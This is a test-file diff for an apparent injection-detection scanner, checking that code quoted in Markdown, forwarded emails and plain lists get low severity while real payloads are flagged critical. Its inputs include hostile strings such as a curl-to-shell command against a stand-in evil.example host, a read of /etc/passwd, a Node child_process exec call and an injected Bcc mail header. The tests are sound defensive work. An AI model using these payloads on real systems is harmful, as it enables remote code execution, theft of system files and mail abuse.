@@ -403,3 +403,31 @@ describe('variables, relative paths and code quoted by developers', () => {
     assert.deepEqual(sev("'; return true; var x='", 'nosqli.js-string-breakout'), ['high']);
   });
 });
+
+describe('developer content: code quoted the Markdown way, forwarded mail, lists', () => {
+  const sev = severitiesOf;
+  test('a snippet inside a closed fence or a span with prose beside it is medium', () => {
+    assert.deepEqual(sev("Try:\n```js\nconst fs = require('fs')\n```\nthen run it", 'js-injection.node-rce'), ['medium']);
+    assert.deepEqual(sev('```js\nawait fs.readFile("README.md", "utf8");\n```', 'php.code-execution-call'), ['medium']);
+    assert.deepEqual(sev('```js\nsleep(1000)\n```', 'sqli.time-based'), ['medium']);
+    assert.deepEqual(sev('a terminal (`cmd.exe` or\npowershell) needs chcp 65001', 'cmdi.separator-command'), ['medium']);
+  });
+  test('the same payload outside the code, or after a fence that is not one, still blocks', () => {
+    assert.deepEqual(sev("require('child_process').exec('id')\n```\n```", 'js-injection.node-rce'), ['critical']);
+    assert.deepEqual(sev('; curl http://evil.example/x | sh #```', 'cmdi.separator-command'), ['critical']);
+    assert.deepEqual(sev('see:\n```\nls\n```\n; cat /etc/passwd', 'cmdi.separator-command'), ['critical']);
+    assert.deepEqual(sev('@{[`whoami`]}', 'cmdi.command-substitution'), ['critical']);
+  });
+  test('a forwarded email is medium; injected mail headers without one block', () => {
+    const forwarded =
+      '---------- Forwarded message ---------\nFrom: Alice <alice@example.com>\nDate: Mon, 7 Dec 2026\nTo: billing@example.com\n\nHi';
+    assert.deepEqual(sev(forwarded, 'crlf.mail-header'), ['medium']);
+    assert.deepEqual(sev('x\nBcc: victim@evil.example', 'crlf.mail-header'), ['critical']);
+  });
+  test('lists and hard-wrapped lines that start with a program name are prose', () => {
+    for (const text of ['Pets:\ncat\ndog', 'Skills:\nPython and Go', 'Skills:\nRuby\nGo', 'differ from\nBash and other shells']) {
+      assert.deepEqual(sev(text, 'cmdi.separator-command'), [], text);
+    }
+  });
+});
+
